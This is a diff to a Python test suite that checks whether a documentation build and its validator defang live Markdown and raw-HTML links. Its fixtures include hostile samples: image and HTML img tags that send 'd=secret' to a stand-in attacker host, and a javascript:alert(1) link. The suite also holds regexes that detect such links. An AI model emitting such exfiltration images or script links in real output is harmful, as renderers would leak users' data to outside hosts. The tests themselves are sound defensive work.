@@ -21,17 +21,24 @@ IMAGE = f"![x](https://{ATTACKER}/p.png?d=secret)"
 LINK = "[click](javascript:alert(1))"
 REFERENCE = f"[docs][1]\n\n[1]: https://{ATTACKER}/ref"
 AUTOLINK = f"<https://{ATTACKER}/auto> and <mail@{ATTACKER}>"
-HOSTILE = f"{IMAGE} {LINK} {AUTOLINK} ![y][1] {REFERENCE}"
-ONE_LINE = f"{IMAGE} {LINK} <https://{ATTACKER}/auto> [z][1]"
+HTML_IMAGE = f'<img src="https://{ATTACKER}/p.png?d=secret">'
+HTML_LINK = f"<a href='https://{ATTACKER}/a'>click</a>"
+HOSTILE = f"{IMAGE} {LINK} {AUTOLINK} ![y][1] {HTML_IMAGE} {HTML_LINK} {REFERENCE}"
+ONE_LINE = f"{IMAGE} {LINK} <https://{ATTACKER}/auto> [z][1] {HTML_IMAGE}"
 
 # What a Markdown renderer makes live: an inline or reference link or image, a reference definition, an
-# autolink (not escaped by a backslash); and what a browser follows: href and src.
+# autolink (not escaped by a backslash); and what a browser or a Markdown renderer (raw HTML) follows: href
+# and src in a tag.
 _LIVE = [
     re.compile(r"\]\((?P<target>[^)\s]*)"),
     re.compile(r"\]\[(?P<target>[^\]]*)\]"),
     re.compile(r"(?m)^ {0,3}\[[^\]\n]+\]:[ \t]*(?P<target>\S+)"),
     re.compile(r"(?<!\\)<(?P<target>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>"),
-    re.compile(r"""(?:href|src)\s*=\s*["']?(?P<target>[^"'\s>]*)""", re.IGNORECASE),
+    re.compile(
+        r"""(?<!\\)<[A-Za-z][A-Za-z0-9-]*(?:\s+[^\s=>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*?"""
+        r"""\s+(?:href|src)\s*=\s*["']?(?P<target>[^"'\s>]*)""",
+        re.IGNORECASE,
+    ),
 ]
 
 
@@ -99,6 +106,7 @@ def test_the_text_still_reads(build: Path) -> None:
     assert f"![x] (https://{ATTACKER}/p.png?d=secret) [click] (javascript:alert(1))" in full
     lookup = next((build / "tools").glob("lookup*.pack")).read_text("utf-8")
     assert f"![x] (https://{ATTACKER}/p.png?d=secret)" in lookup
+    assert "< img src=" in lookup and "< a href=" in lookup and "</a>" in lookup  # a bare tag stays
 
 
 @pytest.mark.parametrize(
@@ -108,6 +116,9 @@ def test_the_text_still_reads(build: Path) -> None:
         (LINK, "[click](javascript:alert(1))"),
         ("Read [the guide][g] first.", "[the guide][g] first."),
         ("See <https://example.com/x>.", "<https://example.com/x>."),
+        (HTML_IMAGE, '<img src="https://attacker'),
+        (HTML_LINK, "<a href='https://attacker"),
+        ("Hidden <!-- a comment --> text.", "<!-- a comment --> text."),
     ],
 )
 def test_validate_warns_about_link_syntax_and_strict_fails(tmp_path: Path, text: str, found: str) -> None:
@@ -125,7 +136,8 @@ def test_validate_warns_about_link_syntax_and_strict_fails(tmp_path: Path, text:
 def test_brackets_that_make_no_link_do_not_warn(tmp_path: Path) -> None:
     docs = documents()
     docs["claude-code"]["capabilities"][3]["description"] = (
-        "Runs shell commands [optionally] at lifecycle events; see note [1], a <placeholder> and x[0] (index)."
+        "Runs shell commands [optionally] at lifecycle events; see note [1], a <placeholder>, <owner/repo>, "
+        "<b>bold</b>, if a<b, and x[0] (index)."
     )
     docs["claude-code"]["capabilities"][3]["sources"] = [
         {"url": "http://[2001:db8::1]:8080/hooks", "description": "Hooks", "sourceGranularity": "section"}
